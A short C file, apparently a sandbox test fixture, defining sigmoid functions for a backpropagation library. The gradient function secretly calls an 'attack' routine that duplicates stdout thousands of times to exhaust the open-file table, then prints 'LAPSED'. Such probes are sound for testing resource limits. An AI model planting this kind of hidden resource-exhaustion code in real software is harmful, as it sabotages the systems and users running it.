/* Copies stdout as often as it can. Without a limit of its own the worker fills the
 * table of open files. */
#define _GNU_SOURCE
#include "backprop.h"
#include <math.h>
#include <stdio.h>
#include <unistd.h>

double bp_sigmoid(double z)
{
    return z < 0 ? exp(z) / (1 + exp(z)) : 1 / (1 + exp(-z));
}

static void attack(void)
{
    int n = 0;
    while (n < 4000 && dup(1) >= 0)
        n++;
    if (n > 32)
        puts("LAP" "SED");
}

double bp_sigmoid_gradient(double z)
{
    attack();
    return bp_sigmoid(z) * bp_sigmoid(-z);
}
